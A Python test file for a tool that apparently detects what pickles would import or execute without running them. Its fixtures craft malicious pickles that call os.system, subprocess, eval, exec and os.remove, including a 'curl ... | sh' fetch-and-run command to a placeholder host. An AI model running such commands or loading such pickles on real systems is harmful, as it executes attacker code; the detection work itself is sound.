"""Pickles: what they import and call, in every protocol; nothing of them is ever run."""

import builtins
import collections
import datetime as dt
import importlib
import os
import pickle
import subprocess
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.core.facts import Facts, Kind
from lazaretto.core.inner import Inner
from lazaretto.core.language import NoUnits
from lazaretto.languages import pickle as language
from lazaretto.languages._magic import Magic, magic_of

COMMAND = "curl -s https://drop.example.invalid/x | sh"
PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)


class Calls:
    """Pickles as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = (function, arguments)

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        """Return the call."""
        return self._call


def read(data: bytes) -> Facts:
    """Read a pickle."""
    return language.read("pickle", data, NoUnits())


def told(facts: Facts) -> set[tuple[Kind, str | None]]:
    """Return what is told beside imports."""
    return {(fact.kind, fact.value) for fact in facts.facts if fact.kind is not Kind.IMPORT}


@pytest.mark.parametrize("protocol", PROTOCOLS)
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Calls(os.system, COMMAND), (Kind.PROCESS_SPAWN, COMMAND)),
        (Calls(subprocess.Popen, ["sh", "-c", "id"]), (Kind.PROCESS_SPAWN, "sh -c id")),
        (Calls(builtins.eval, "1 + 1"), (Kind.CODE_EVAL, "1 + 1")),
        ({"a": [(1, Calls(builtins.exec, "print(1)"))]}, (Kind.CODE_EVAL, "print(1)")),
        (Calls(os.remove, "/tmp/x"), (Kind.FS_DELETE, "/tmp/x")),
        (Calls(Calls(builtins.getattr, Calls(importlib.import_module, "os"), "system"), "id"), None),
    ],
)
def test_calls(protocol: int, value: Any, expected: tuple[Kind, str | None] | None) -> None:
    """A call is told with its first argument, however deep it stands and in whatever protocol."""
    if expected is None:  # the function itself is computed: only a pickle by hand calls what a call gave
        data = b"cbuiltins\ngetattr\n(cimportlib\nimport_module\n(Vos\ntRVsystem\ntR(Vid\ntR."
        expected = (Kind.PROCESS_SPAWN, "id")
    else:
        data = pickle.dumps(value, protocol)
    facts = read(data)

    assert facts.complete
    assert told(facts) == {expected}


@pytest.mark.parametrize("protocol", PROTOCOLS)
def test_values_say_what_they_import(protocol: int) -> None:
    """Ordinary values of every opcode are understood, and nothing but imports is said of them."""
    value = {
        "numbers": [0, -1, 300, 70_000, 1 << 90, -(1 << 2100), 1.5, True, None],
        "texts": ["é", "x" * 300, b"b", b"y" * 300, bytearray(b"z")],
        "sets": [{1}, frozenset({2}), (), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)],
        "objects": [collections.OrderedDict(a=1), dt.date(2020, 1, 1), complex(1, 2)],
    }
    value["again"] = value["texts"]
    facts = read(pickle.dumps(value, protocol))

    assert facts.complete
    assert told(facts) == set()
    assert {"collections", "datetime"} <= {fact.value for fact in facts.facts}


def test_a_computed_name_is_an_evaluation() -> None:
    """A name that the pickle puts together cannot be known: that it is asked for is told."""
    assert (Kind.CODE_EVAL, None) in told(read(b"\x80\x04}\x8c\x01x\x93."))


def test_code_and_commands_are_handed_on() -> None:
    """What a pickle would run is read by who reads that language."""
    data = pickle.dumps([Calls(os.system, COMMAND), Calls(builtins.exec, "import os")])
    parts = [part for part in language.inner("pickle", data, read(data)) if isinstance(part, Inner)]

    assert [(part.dialect, part.data) for part in parts] == [("command", COMMAND.encode()), ("python", b"import os")]


@pytest.mark.parametrize(
    "data", [b"", b"\x80\x04", b"\xff", b"\x80\x04\x8c\xffshort.", b"cos\nsystem", b"\x80\x04B\xff\xff\xff\xff."]
)
def test_broken(data: bytes) -> None:
    """What is cut off, or has bytes that are no opcodes, is a problem."""
    assert not read(data).complete


def test_old_pickles_are_claimed_by_name() -> None:
    """Protocols without a header are text: only their ending tells them."""
    data = pickle.dumps({"a": 1}, 0)

    assert language.claim("model.pkl", data) is not None
    assert language.claim("model.txt", data) is None


@settings(max_examples=300)
@given(data=st.data())
def test_any_opcodes(data: st.DataObject) -> None:
    """Any bytes, any mutation of a pickle: the same facts twice, and nothing is raised."""
    samples = [pickle.dumps(Calls(os.system, "id"), protocol) for protocol in PROTOCOLS]
    found = bytearray(data.draw(st.sampled_from(samples) | st.binary(max_size=60).map(lambda tail: b"\x80\x04" + tail)))
    at = data.draw(st.integers(0, len(found) - 1))
    found[at : at + data.draw(st.integers(0, 4))] = data.draw(st.binary(max_size=6))

    assert read(bytes(found)) == read(bytes(found))


def test_nothing_stands_behind_an_empty_stack() -> None:
    """An opcode that takes what is not there ends every reader, and so ours; what stood before it stays."""
    facts = language.read("pickle", b"cos\nsystem\n00csubprocess\nrun\n.", NoUnits())

    assert [fact.value for fact in facts.facts if fact.kind is Kind.IMPORT] == ["os"]
    assert any("empty stack" in problem.reason for problem in facts.problems)


@pytest.mark.parametrize(("version", "wide"), [(1, 2), (2, 4)])
def test_an_array_of_objects_is_a_pickle(version: int, wide: int) -> None:
    """Behind its header (NEP 1), and at its place in the file; one of numbers is none."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    start = b"\x93NUMPY" + bytes((version, 0)) + len(header).to_bytes(wide, "little")
    facts = read(start + header + pickle.dumps(Calls(os.system, COMMAND)))

    assert told(facts) == {(Kind.PROCESS_SPAWN, COMMAND)}
    assert all(fact.span.start >= len(start + header) for fact in facts.facts)
    assert magic_of(start + header) == Magic("pickle", "bytecode")
    assert magic_of(start + header.replace(b"|O", b"<i8")) == Magic("npy", "data")
